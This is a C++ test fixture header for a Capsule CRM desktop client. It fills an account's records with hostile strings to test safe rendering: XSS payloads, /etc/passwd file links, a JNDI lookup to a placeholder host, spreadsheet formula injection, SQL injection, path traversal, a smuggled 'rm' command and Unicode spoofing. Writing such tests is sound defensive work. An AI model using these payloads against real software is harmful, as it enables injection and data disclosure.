#pragma once

#include "capsule/account.h"

#include <QString>

#include <array>

// Texts that Capsule or a colleague may hold and that a window could stumble over.

struct HostileText
{
    const char *name;
    QString text;
};

inline QList<HostileText> hostileTexts()
{
    const auto repeated = [](const QString &text, int times) {
        return text.repeated(times);
    };
    QString controls;
    for (char16_t c = 1; c < 0x20; ++c)
        controls += QChar(c);
    return {
        {"bold", QStringLiteral("<b>Anna</b> <i>Lind</i>")},
        {"remote picture", QStringLiteral("<img src=\"https://pixel.example/a.png\" width=4000 height=4000>")},
        {"local picture", QStringLiteral("<img src='file:///etc/hostname'>")},
        {"script", QStringLiteral("<script>alert(1)</script><svg onload=alert(1)>")},
        {"link", QStringLiteral("<a href=\"javascript:alert(1)\">Call me</a>")},
        {"open table", QStringLiteral("<table width=5000 border=9><tr><td><h1>")},
        {"style sheet", QStringLiteral("<style>* { font-size: 90pt; color: transparent }</style>QWidget{color:red}")},
        {"entities", QStringLiteral("&lt;b&gt; &amp;amp; &nbsp; &#0; &#x202e;")},
        {"markdown picture",
            QStringLiteral("![logo](https://pixel.example/b.png) # Head\n\n- [ ] one\n\n| a | b |\n|-|-|")},
        {"markdown link", QStringLiteral("[Invoice](file:///etc/passwd) <https://pixel.example> `code`\n```\nopen")},
        {"turned round", QStringLiteral("invoice\u202Efdp.exe")},
        {"open isolates", QStringLiteral("\u2066\u2067\u2068Lind\u202A\u202B\u202D")},
        {"arabic", QStringLiteral("شركة الميناء للتجارة المحدودة")},
        {"hebrew and digits", QStringLiteral("דנה 0113-496 (Leeds) כהן +44")},
        {"one long word", repeated(QStringLiteral("W"), 4000)},
        {"long sentence", repeated(QStringLiteral("Met at the fair in Leeds. "), 800)},
        {"NUL", QStringLiteral("Anna") + QChar(0) + QStringLiteral("Lind") + QChar(0)},
        {"controls", QStringLiteral("a") + controls + QStringLiteral("\u007F\u0085z")},
        {"many lines", repeated(QStringLiteral("line\r\n\u2028\u2029\v"), 60)},
        {"stacked marks",
            QStringLiteral("Z") + repeated(QStringLiteral("\u0310\u0321\u035C"), 60) + QStringLiteral("a")},
        {"emoji",
            QStringLiteral("👩‍👩‍👧‍👦🏳️‍🌈🇬🇧👍🏿")
                + repeated(QStringLiteral("🎉"), 200)},
        {"half a character", QStringLiteral("Anna") + QChar(0xD83D) + QStringLiteral("Lind") + QChar(0xDE00)},
        {"nothing to see", QStringLiteral("\u200B\u200D\uFEFF\u00AD\u2060")},
        {"placeholders", QStringLiteral("%1 %2 %n %L1 %99 {0} $VAR ${jndi:ldap://pixel.example}")},
        {"mnemonics", QStringLiteral("&File && &Edit &&& R&D\tCtrl+Q")},
        {"formula", QStringLiteral("=HYPERLINK(\"https://pixel.example\";\"Anna\")")},
        {"paths", QStringLiteral("../../../../etc/passwd\\..\\C:\\CON|nul:*?")},
        {"addresses", QStringLiteral("javascript:alert(1) file:///etc/passwd smb://pixel.example/x tel:112;rm")},
        {"no characters", QStringLiteral("\uFFFE\uFFFF\uE000\U000F0000\U0010FFFF")},
        {"wide and tall", repeated(QStringLiteral("\uFDFD"), 40) + repeated(QStringLiteral("\U0001242B"), 40)},
        {"quotes", QStringLiteral("\"]}'; DROP TABLE parties; --\\u0000\\")},
        {"blanks", QStringLiteral("\u00A0 \u3000\u2003 \u00A0")},
    };
}

/// Gives the account a few records of every kind, with `text` in each place that takes a text. The ids are below.
namespace hostile {

inline constexpr qint64 Person = 101, Organisation = 102, Colleague = 103;

inline void fill(capsule::Account &account, const QString &text)
{
    constexpr qint64 moment = 1'700'000'000;
    const auto common = [&](auto &party) {
        party.createdAt = party.updatedAt = party.lastContactedAt = moment;
        party.about = text;
        for (const auto *type : {"Home", "Postal", ""})
            party.addresses.append({account.nextRowId++, QLatin1StringView(type), text, text, text, text, text});
        party.emails.append({account.nextRowId++, text, text});
        party.phones.append({account.nextRowId++, text, text});
        party.websites.append({account.nextRowId++, text, QStringLiteral("URL"), text});
        party.websites.append({account.nextRowId++, text, text, text});
    };
    const qint64 user = account.users
                            .insert({0, text, text, QStringLiteral("en_GB"), QStringLiteral("GBP"),
                                QStringLiteral("Europe/London"), 0, moment})
                            .id;
    const qint64 team = account.teams.insert({0, text, text, {1, user}, moment, moment}).id;
    account.titles.insert({0, text});
    const qint64 category = account.categories.insert({0, text, text}).id;
    account.lostReasons.insert({0, text});
    account.savedFilters.insert({0, text, {}, {}});
    capsule::Vocabulary &vocabulary = account.vocabulary(capsule::Kind::Party);
    const qint64 tag = vocabulary.tags.insert({0, text, text, false}).id;
    const qint64 dataTag = vocabulary.tags.insert({0, text + u'2', text, true}).id;
    QList<capsule::FieldValue> fields;
    for (const auto *type : {"text", "list", "link", "number", "date"}) {
        for (const qint64 tagOfField : {qint64(0), dataTag}) {
            capsule::Definition definition;
            definition.name = text + QLatin1StringView(type) + QString::number(tagOfField);
            definition.description = text;
            definition.type = QLatin1StringView(type);
            definition.tag = tagOfField;
            definition.options = {text, text + u'2'};
            definition.important = tagOfField == 0;
            const qint64 id = vocabulary.definitions.insert(definition).id;
            fields.append({account.nextRowId++, id, text});
        }
    }
    const auto add = [&](qint64 id, bool isPerson) {
        capsule::Party party;
        party.id = id;
        party.isPerson = isPerson;
        common(party);
        party.owner = user;
        party.team = team;
        party.tags = {tag, dataTag};
        party.fields = fields;
        if (isPerson) {
            party.firstName = party.lastName = party.title = party.jobTitle = text;
            party.organisation = Organisation;
        } else {
            party.name = text;
        }
        account.addParty(party);
    };
    add(Organisation, false);
    add(Person, true);
    add(Colleague, true);

    const qint64 file = account.attachments.insert({0, text, text, "text/html", text.toUtf8()}).id;
    for (const auto *type : {"note", "email"}) {
        capsule::Entry entry;
        entry.type = QLatin1StringView(type);
        entry.subject = entry.content = text;
        entry.party = Person;
        entry.creator = user;
        entry.createdAt = entry.updatedAt = entry.entryAt = moment;
        entry.attachments = {file};
        account.entries.insert(entry);
    }
    capsule::Task task;
    task.description = task.detail = text;
    task.dueOn = QStringLiteral("2026-01-05");
    task.status = QStringLiteral("OPEN");
    task.category = category;
    task.party = Person;
    task.owner = 1;
    task.createdAt = task.updatedAt = moment;
    account.tasks.insert(task);
    for (const capsule::Kind kind : {capsule::Kind::Opportunity, capsule::Kind::Kase}) {
        capsule::Deal deal;
        deal.party = Person;
        deal.name = deal.description = deal.stage = text;
        deal.currency = QStringLiteral("GBP");
        deal.value = 1000;
        deal.status = QStringLiteral("OPEN");
        deal.createdAt = deal.updatedAt = moment;
        account.deals(kind).insert(deal);
    }
}

} // namespace hostile
